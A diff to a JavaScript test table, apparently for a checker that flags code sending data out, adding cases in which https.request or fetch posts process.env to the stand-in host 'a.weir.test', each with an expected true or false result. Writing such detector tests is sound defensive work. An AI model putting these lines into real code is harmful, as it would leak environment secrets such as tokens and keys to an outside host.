@@ -35,6 +35,16 @@ test.each([
     true,
   ],
   [
+    'written behind a chain of calls that give the request',
+    `import https from 'https'; https.request({ host: 'a.weir.test' }).on('error', () => {}).setTimeout(9).end(process.env)`,
+    true,
+  ],
+  [
+    'written behind a chain in which the answer is listened to',
+    `import https from 'https'; https.request({ host: 'a.weir.test' }).on('response', (r) => use(r)).end(process.env)`,
+    false,
+  ],
+  [
     'given back by each part',
     `export const all = parts.map((c) => fetch('https://a.weir.test', { body: process.env }))`,
     false,
